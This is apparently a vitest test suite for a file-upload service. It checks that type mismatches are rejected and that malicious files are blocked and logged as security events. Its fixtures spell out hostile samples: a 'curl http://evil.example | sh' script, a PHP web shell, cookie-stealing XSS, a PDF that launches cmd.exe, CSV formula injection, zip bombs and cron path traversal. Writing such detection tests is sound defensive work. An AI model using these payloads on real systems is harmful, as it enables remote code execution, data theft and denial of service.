import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { FILE_TYPES } from "../../src/lib/uploads/file-types";
import { ARCHIVE_LIMITS, contentThreats, universalThreats } from "../../src/lib/uploads/threats";
import { createUser } from "../helpers/auth";
import { call, problemOf } from "../helpers/http";
import { concat, elf, gif, jpeg, macho, pdf, pe, png, zip } from "../helpers/files";
import { eventually, securityEventsWhere } from "../helpers/security";

/**
 * These cases once ran super-linearly (a hang or a stack overflow). The bound only catches such a
 * blow-up, far above the linear cost even on a loaded machine; the real figures are in `npm run bench`.
 */
const HANG_GUARD_MS = 10_000;

function upload(headers: Record<string, string>, file: { bytes: Uint8Array; name: string; type: string }) {
  const form = new FormData();
  form.append("file", new File([file.bytes], file.name, { type: file.type }));
  return call("/v1/uploads", { method: "POST", headers, body: form });
}

async function uploadCount(ownerId: string): Promise<number> {
  const row = await env.DB.prepare("SELECT count(*) AS n FROM uploads WHERE owner_id = ?").bind(ownerId).first<{ n: number }>();
  return row!.n;
}

async function storedObjects(ownerId: string): Promise<number> {
  return (await env.FILES.list({ prefix: `uploads/${ownerId}/` })).objects.length;
}

const text = (value: string) => new TextEncoder().encode(value);

describe("415 unsupported_file_type: name, declared type and content must agree", () => {
  const cases: [string, () => Uint8Array, string, string][] = [
    ["an extension off the allow-list", png, "picture.bmp", "image/bmp"],
    ["SVG, not accepted at all", () => text('<svg xmlns="http://www.w3.org/2000/svg"></svg>'), "logo.svg", "image/svg+xml"],
    ["no extension", png, "picture", "image/png"],
    ["JPEG content named .png", jpeg, "photo.png", "image/png"],
    ["PNG content declared as image/jpeg", png, "photo.png", "image/jpeg"],
    ["a generic declared type", png, "photo.png", "application/octet-stream"],
    ["no declared type", png, "photo.png", ""],
    ["a PDF named .jpg", () => pdf(), "scan.jpg", "image/jpeg"],
    ["text named .png", () => text("hello"), "hello.png", "image/png"],
    ["JSON that does not parse", () => text("{ not json"), "data.json", "application/json"],
    ["binary named .txt", () => new Uint8Array([0x00, 0x01, 0x02, 0xff, 0xfe]), "notes.txt", "text/plain"],
    ["invalid UTF-8 named .csv", () => new Uint8Array([0x61, 0x2c, 0xc3, 0x28]), "data.csv", "text/csv"],
    ["a GIF sent as a PDF", gif, "doc.pdf", "application/pdf"],
  ];
  it.each(cases)("%s", async (_name, make, filename, type) => {
    const { user, headers } = await createUser();
    const res = await upload(headers, { bytes: make(), name: filename, type });
    expect(res.status).toBe(415);
    const problem = await problemOf(res);
    expect(problem.code).toBe("unsupported_file_type");
    expect(problem.allowedExtensions).toContain("png");
    expect(await uploadCount(user.id)).toBe(0);
    expect(await storedObjects(user.id)).toBe(0);
  });

  it("refuses a non-image as a question_image", async () => {
    const { headers } = await createUser();
    const form = new FormData();
    form.append("file", new File([pdf()], "a.pdf", { type: "application/pdf" }));
    form.append("purpose", "question_image");
    const res = await call("/v1/uploads", { method: "POST", headers, body: form });
    expect(res.status).toBe(415);
  });
});

describe("422 malicious_file, with a SecurityEvent, whatever the file is called", () => {
  const bombDirectory = () =>
    zip(
      Array.from({ length: 8 }, (_, i) => ({
        name: `layer-${i}.txt`,
        content: "0".repeat(1000),
        claimedSize: 50 * 1024 * 1024,
      })),
    );

  const cases: [string, () => Uint8Array | Promise<Uint8Array>, string, string, string][] = [
    ["an ELF executable named .txt", elf, "notes.txt", "text/plain", "executable_elf"],
    ["a PE executable named .png", pe, "holiday.png", "image/png", "executable_pe"],
    ["a Mach-O binary named .pdf", macho, "paper.pdf", "application/pdf", "executable_macho"],
    ["a shell script named .csv", () => text("#!/bin/sh\ncurl http://evil.example | sh\n"), "data.csv", "text/csv", "shebang_script"],
    ["a script behind a byte-order mark", () => text("\ufeff#! /usr/bin/env python\nimport os\n"), "notes.txt", "text/plain", "shebang_script"],
    ["an HTML/PNG polyglot", () => concat(png(), "<html><script>alert(document.cookie)</script></html>"), "cat.png", "image/png", "embedded_markup"],
    ["PHP inside a GIF comment", () => concat(gif(), "<?php system($_GET['c']); ?>"), "avatar.gif", "image/gif", "embedded_markup"],
    ["a JPEG carrying a script in its comment", () => concat(jpeg().subarray(0, 20), "<SCRIPT>fetch('//x')</SCRIPT>", new Uint8Array([0xff, 0xd9])), "a.jpg", "image/jpeg", "embedded_markup"],
    ["a PDF with JavaScript", () => pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "form.pdf", "application/pdf", "pdf_active_content"],
    ["a PDF that launches a program", () => pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "invoice.pdf", "application/pdf", "pdf_active_content"],
    ["a double extension .php.png", png, "shell.php.png", "image/png", "double_extension"],
    ["a double extension .exe.jpg", jpeg, "invoice.exe.jpg", "image/jpeg", "double_extension"],
    ["a right-to-left override in the name", png, "photo\u202Egnp.exe.png", "image/png", "deceptive_filename"],
    ["a CSV formula that runs a program", () => text("name,score\n=cmd|' /C calc'!A0,1\n"), "scores.csv", "text/csv", "csv_formula_injection"],
    ["a zip whose directory claims far more than it holds", bombDirectory, "bundle.zip", "application/zip", "archive_expands_too_far"],
    [
      "a zip with an extreme compression ratio",
      () => zip([{ name: "zeros.txt", content: new Uint8Array(ARCHIVE_LIMITS.ratioFloorBytes * 3) }]),
      "zeros.zip",
      "application/zip",
      "archive_compression_ratio",
    ],
    [
      "a zip whose entry inflates past its declared size",
      () => zip([{ name: "liar.txt", content: "A".repeat(200_000), claimedSize: 100 }]),
      "liar.zip",
      "application/zip",
      "archive_size_mismatch",
    ],
    [
      "a zip with overlapping entries (non-recursive bomb)",
      () => zip([{ name: "a.txt", content: "B".repeat(5000) }, { name: "b.txt", content: "B".repeat(5000), shareDataWith: 0 }]),
      "overlap.zip",
      "application/zip",
      "archive_overlapping_entries",
    ],
    ["a zip inside a zip", async () => zip([{ name: "inner.zip", content: await zip([{ name: "x.txt", content: "x" }]), store: true }]), "nested.zip", "application/zip", "archive_nested"],
    ["a zip with path traversal", () => zip([{ name: "../../etc/cron.d/job", content: "* * * * * root sh" }]), "slip.zip", "application/zip", "archive_path_traversal"],
    ["a zip carrying an executable", () => zip([{ name: "setup.exe", content: pe(), store: true }]), "tools.zip", "application/zip", "archive_dangerous_entry"],
    ["an HTML page named .png", () => text("<html><body onload=alert(1)></body></html>"), "avatar.png", "image/png", "embedded_markup"],
    ["an SVG with script named .gif", () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), "icon.gif", "image/gif", "embedded_markup"],
    ["a broken zip", () => concat(new Uint8Array([0x50, 0x4b, 0x03, 0x04]), "garbage"), "broken.zip", "application/zip", "archive_malformed"],
  ];

  it.each(cases)("%s", async (_name, make, filename, type, reason) => {
    const { user, headers } = await createUser();
    const bytes = await make();
    const res = await upload(headers, { bytes, name: filename, type });
    expect(res.status, await res.clone().text()).toBe(422);
    const problem = await problemOf(res);
    expect(problem.code).toBe("malicious_file");
    expect(problem.reasons).toContain(reason);
    expect(await uploadCount(user.id)).toBe(0);
    expect(await storedObjects(user.id)).toBe(0);

    const event = await eventually(async () => (await securityEventsWhere({ type: "malicious_upload", actorId: user.id }))[0]);
    expect(event.severity).toBe("HIGH");
    expect(event.details.reasons).toContain(reason);
    expect(event.details.size).toBe(bytes.byteLength);
    expect(event.details.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(event.requestId).toBe(problem.requestId);

    const audit = await env.DB.prepare("SELECT status FROM audit_logs WHERE action = 'upload.created' AND actor_id = ?").bind(user.id).first();
    expect(audit).toEqual({ status: "FAILURE" });
  });

  it("refuses a zip whose compressed data is corrupt, without a server error", async () => {
    const { headers } = await createUser();
    const bytes = await zip([{ name: "a.txt", content: "hello world ".repeat(500) }]);
    for (let i = 30 + "a.txt".length; i < 30 + "a.txt".length + 12; i++) bytes[i] = 0xff;
    const res = await upload(headers, { bytes, name: "corrupt.zip", type: "application/zip" });
    expect(res.status).toBe(422);
    expect((await problemOf(res)).reasons).toEqual(expect.arrayContaining([expect.stringMatching(/^archive_(malformed|size_mismatch)$/)]));
  });

  it("does not mistake text that merely starts with MZ for an executable", async () => {
    const { headers } = await createUser();
    const res = await upload(headers, { bytes: text("MZ is my monogram, and this is a long enough note to have a header where a PE would\n".repeat(2)), name: "note.txt", type: "text/plain" });
    expect(res.status).toBe(201);
  });

  it("does not flag a CSV with ordinary formulas or negative numbers", async () => {
    const { headers } = await createUser();
    const res = await upload(headers, { bytes: text("a,b,total\n-1,2,=A2+B2\n@home,3,=SUM(A2:B3)\n"), name: "sheet.csv", type: "text/csv" });
    expect(res.status).toBe(201);
  });
});

describe("inspection cost stays linear on hostile files", () => {
  it("judges a CSV built to make a formula scan backtrack without blowing up", async () => {
    const csv = text(",=".repeat(1_000_000) + "|");
    const started = performance.now();
    expect(await contentThreats(FILE_TYPES.csv, csv)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });

  it("scans a 10 MB image of worst-case bytes for markup without blowing up", () => {
    const image = new Uint8Array(10 * 1024 * 1024).fill(0x3c); // every byte a '<': the worst case for candidates
    image.set(png());
    const started = performance.now();
    expect(universalThreats("big.png", image)).toEqual([]);
    expect(performance.now() - started).toBeLessThan(HANG_GUARD_MS);
  });
});
